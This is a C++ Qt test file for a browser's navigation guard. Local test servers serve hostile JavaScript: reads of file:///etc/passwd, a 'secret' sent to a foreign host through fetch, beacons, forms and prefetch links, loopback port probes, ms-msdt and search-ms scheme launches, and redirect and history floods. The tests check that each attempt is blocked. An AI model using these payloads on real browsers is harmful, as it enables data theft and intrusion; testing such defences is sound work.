#include "browser/hostile.h"
#include "browser/page/pagecontrols.h"

#include <QFile>
#include <QTemporaryDir>

using namespace hekim;
using namespace hekim::test;
using namespace Qt::StringLiterals;
using Notice = Gatekeeper::Notice;

namespace {
/// xdg-open as a program of ours that writes down that it was started.
class Opener
{
public:
    Opener()
    {
        QFile script(m_folder.filePath(u"xdg-open"_s));
        if (!script.open(QIODevice::WriteOnly))
            qFatal("no program could be written");
        script.write("#!/bin/sh\necho \"$@\" >> '" + m_opened.toUtf8() + "'\n");
        script.setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
        qputenv("PATH", m_folder.path().toUtf8() + ":" + m_path);
    }
    ~Opener() { qputenv("PATH", m_path); }
    Opener(const Opener&) = delete;
    Opener& operator=(const Opener&) = delete;

    [[nodiscard]] bool wasStarted() const { return QFile::exists(m_opened); }

private:
    QTemporaryDir m_folder;
    QString m_opened = m_folder.filePath(u"opened"_s);
    QByteArray m_path = qgetenv("PATH");
};
} // namespace

/// Pages that want to be somewhere else, and to take something along.
class TestHostileAddresses : public QObject
{
    Q_OBJECT

private slots:
    void S5_filesDataAndTheEngine();
    void S5_aForeignHostByEveryWay();
    void S5_foreignPortsOfThisComputer();
    void S6_foreignSchemesWithoutAGesture();
    void anEndlessRedirect();
    void anEndlessChainOfPages();
    void W1_aPageThatGoesOnTakesNoPlaceOfTheNext();
    void aFloodOfHistory();
};

void TestHostileAddresses::S5_filesDataAndTheEngine()
{
    HttpServer server;
    server.route(
        "/x",
        flood(u"const to=['file:///etc/passwd','data:text/html,<p>fremd</p>','chrome://gpu',"
              "'view-source:http://127.0.0.1/','filesystem:http://127.0.0.1/temporary/x',"
              "'qrc:/icons/app.svg'];const url=to[tries%to.length];"
              "try{location.href=url}catch(e){}"
              "const f=document.createElement('iframe');f.src=url;document.body.append(f);"
              "setTimeout(()=>f.remove(),100);"
              "try{const q=new XMLHttpRequest();q.open('GET',url);q.onload=()=>window.got=q.responseText;"
              "q.send()}catch(e){}"_s,
              60, 30));
    Pane pane;
    QVERIFY(pane.openAndWait(rulesFor(server.url()), server.url(u"/x"_s)));
    const Turns turns;
    QVERIFY(hasTried(pane, 60));
    QVERIFY(anotherPageLoads());
    QCOMPARE(pane.evaluate(u"location.href"_s).toString(), server.url(u"/x"_s).toString());
    QVERIFY(!pane.evaluate(u"window.got||''"_s).toString().contains(u"root:"));
    QVERIFY(pane.text().startsWith(u"seite"));
    QTRY_VERIFY(pane.noticed(Notice::AddressRefused) > 0);
    QCOMPARE(pane.failed.count(), 0);
    QVERIFY(turns.areShort());
}

void TestHostileAddresses::S5_aForeignHostByEveryWay()
{
    HttpServer server;
    HttpServer foreign;
    server.route(
        "/x", flood(u"const to='FOREIGN/?secret=10000000146';"
                    "fetch(to,{mode:'no-cors'}).catch(()=>0);new Image().src=to;navigator.sendBeacon(to,'x');"
                    "const f=document.createElement('form');f.action=to;f.method='post';"
                    "document.body.append(f);f.submit();f.remove();"
                    "const i=document.createElement('iframe');i.src=to;document.body.append(i);"
                    "setTimeout(()=>i.remove(),100);"
                    "const l=document.createElement('link');l.rel=['prefetch','preconnect','dns-prefetch',"
                    "'stylesheet','preload','modulepreload'][tries%6];l.as='script';l.href=to;"
                    "document.head.append(l);setTimeout(()=>l.remove(),100);"
                    "try{new EventSource(to).onerror=e=>e.target.close()}catch(e){}"
                    "try{new Worker(to)}catch(e){}if(tries%5==0)location.href=to"_s.replace(
                        u"FOREIGN"_s, foreign.url().toString()),
                    60, 30));
    Pane pane;
    QVERIFY(pane.openAndWait(rulesFor(server.url()), server.url(u"/x"_s)));
    const Turns turns;
    QVERIFY(hasTried(pane, 60));
    QVERIFY(anotherPageLoads());
    QCOMPARE(foreign.count(), 0);
    QCOMPARE(pane.browserAsked.count(), 0); // there was no click
    QVERIFY(pane.text().startsWith(u"seite"));
    QVERIFY(turns.areShort());
}

void TestHostileAddresses::S5_foreignPortsOfThisComputer()
{
    HttpServer server;
    HttpServer foreign; // some other program's server on loopback
    HttpServer agent;
    agent.route("/agent", HttpServerReply::text("da"));
    server.route("/x", flood(u"window.reached=window.reached||0;"
                             "for(const h of ['127.0.0.1','localhost','[::1]','127.1']){"
                             "try{new WebSocket('ws://'+h+':FOREIGN/').onopen=()=>++reached}catch(e){}"
                             "fetch('http://'+h+':FOREIGN/',{mode:'no-cors'}).then(()=>++reached,()=>0)}"
                             "fetch('http://127.0.0.1:AGENT/agent',{mode:'no-cors'}).catch(()=>0)"_s
                                 .replace(u"FOREIGN"_s, QString::number(foreign.port()))
                                 .replace(u"AGENT"_s, QString::number(agent.port())),
                             30, 30));
    Pane pane;
    QVERIFY(
        pane.openAndWait(rulesFor(server.url(), {}, {{u"web/agentPorts"_s, QString::number(agent.port())}}),
                         server.url(u"/x"_s)));
    QVERIFY(hasTried(pane, 30));
    QTRY_VERIFY(agent.count("/agent") > 0); // the one that the administrator named, so the page does try
    QVERIFY(anotherPageLoads());
    QCOMPARE(foreign.count(), 0);
    QCOMPARE(pane.evaluate(u"reached"_s).toInt(), 0);
}

void TestHostileAddresses::S6_foreignSchemesWithoutAGesture()
{
    HttpServer server;
    server.route("/x",
                 flood(u"const to=['hekim-imza:1','tel:112','mailto:a@b','ms-msdt:/id','search-ms:query=x',"
                       "'steam:1'];const url=to[tries%6];try{location.href=url}catch(e){}"
                       "const f=document.createElement('iframe');f.src=url;document.body.append(f);"
                       "setTimeout(()=>f.remove(),100);"
                       "const a=document.createElement('a');a.href=url;document.body.append(a);a.click();"
                       "a.remove();window.open(url)"_s,
                       60, 30));
    const Opener opener;
    Pane pane;
    QSignalSpy asked(&pane.page->gatekeeper(), &Gatekeeper::programAsked);
    QVERIFY(pane.openAndWait(rulesFor(server.url(), {}, {{u"web/externalSchemes"_s, u"hekim-imza"_s}}),
                             server.url(u"/x"_s)));
    const Turns turns;
    const bool tried = hasTried(pane, 60);
    QCOMPARE(asked.count(), 0);
    QVERIFY(tried);
    QVERIFY(anotherPageLoads());
    QCOMPARE(asked.count(), 0);
    QCOMPARE(pane.noticed(Notice::ProgramMissing), 0); // none was even looked for
    QTRY_VERIFY(pane.noticed(Notice::ProgramNeedsClick) > 0);
    QVERIFY(!opener.wasStarted());
    QVERIFY(pane.text().startsWith(u"seite"));
    QVERIFY(turns.areShort());
}

void TestHostileAddresses::anEndlessRedirect()
{
    HttpServer server;
    server.setFallback([](const HttpServerRequest& request) {
        return HttpServerReply::redirect(QUrl(u"/r%1"_s.arg(request.path.mid(2).toInt() + 1)));
    });
    Pane pane;
    const Turns turns;
    QVERIFY(pane.openAndWait(rulesFor(server.url()), server.url(u"/r0"_s)));
    QCOMPARE(pane.failed.count(), 1);
    QCOMPARE(pane.lastError().kind, ErrorKind::BadReply);
    QVERIFY(server.count() < 50);
    QVERIFY(anotherPageLoads());
    QVERIFY(turns.areShort());
}

void TestHostileAddresses::anEndlessChainOfPages()
{
    HttpServer server;
    server.setFallback([](const HttpServerRequest& request) {
        const int number = request.path.mid(2).toInt();
        return request.path == "/frei"
                   ? html(u"frei"_s)
                   : html(u"<p>%1</p><script>onload=()=>setTimeout(()=>location.href='/r%1',20)</script>"_s
                              .arg(number + 1));
    });
    Pane pane;
    const NavigationRules rules = rulesFor(server.url());
    const Turns turns;
    QVERIFY(pane.openAndWait(rules, server.url(u"/r0"_s)));
    QTRY_VERIFY(server.count() > 30);
    QVERIFY(anotherPageLoads());
    pane.page->open(rules, server.url(u"/frei"_s)); // the user can still go elsewhere
    QTRY_COMPARE(pane.text(), u"frei"_s);
    QVERIFY(turns.areShort());
}

// A page that goes on by itself all the time: whatever it is doing as another address is opened, that one is
// shown, told of once, and asked of the server once.
void TestHostileAddresses::W1_aPageThatGoesOnTakesNoPlaceOfTheNext()
{
    HttpServer server;
    server.setFallback([](const HttpServerRequest& request) {
        const int number = request.path.mid(2).toInt() + 1;
        return html(
            u"<p>%1</p><script>onload=()=>setTimeout(()=>location.href='/r%1',%2)</script>"_s.arg(number).arg(
                7 * number % 23));
    });
    server.route("/frei", html(u"frei"_s));
    Pane pane;
    const NavigationRules rules = rulesFor(server.url());
    QVERIFY(pane.openAndWait(rules, server.url(u"/r0"_s)));
    for (int round = 1; round <= 20; ++round) {
        const int before = server.count();
        pane.page->open(rules, server.url(u"/r%1"_s.arg(round)));
        QTRY_VERIFY(server.count() > before + 3);
        pane.evaluate(u"1"_s); // any moment of what it does
        pane.loaded.clear();
        pane.failed.clear();
        QVERIFY(pane.openAndWait(rules, server.url(u"/frei"_s)));
        QTRY_COMPARE(pane.text(), u"frei"_s);
        QVERIFY(!pane.page->isLoading());
        QCOMPARE(pane.loaded.count(), 1);
        QCOMPARE(pane.failed.count(), 0);
        QCOMPARE(server.count("/frei"), round);
    }
}

void TestHostileAddresses::aFloodOfHistory()
{
    HttpServer server;
    server.route("/x",
                 flood(u"for(let n=0;n<50;++n){try{history.pushState({},'','/x?'+tries+'.'+n)}catch(e){}"
                       "try{location.hash=tries}catch(e){}}"_s,
                       400, 1));
    server.route("/y", html(u"frei"_s));
    Pane pane;
    const NavigationRules rules = rulesFor(server.url());
    const Turns turns;
    QVERIFY(pane.openAndWait(rules, server.url(u"/x"_s)));
    QVERIFY(hasTried(pane, 400));
    QVERIFY(anotherPageLoads());
    pane.page->controls().back(); // whatever it does, it hangs nothing
    pane.page->open(rules, server.url(u"/y"_s));
    QTRY_COMPARE(pane.text(), u"frei"_s);
    QVERIFY(!pane.page->controls().canGoBack());
    QCOMPARE(server.count("/x"), 1);
    QVERIFY(turns.areShort());
}

QTEST_MAIN(TestHostileAddresses)
#include "tst_hostile_addresses.moc"
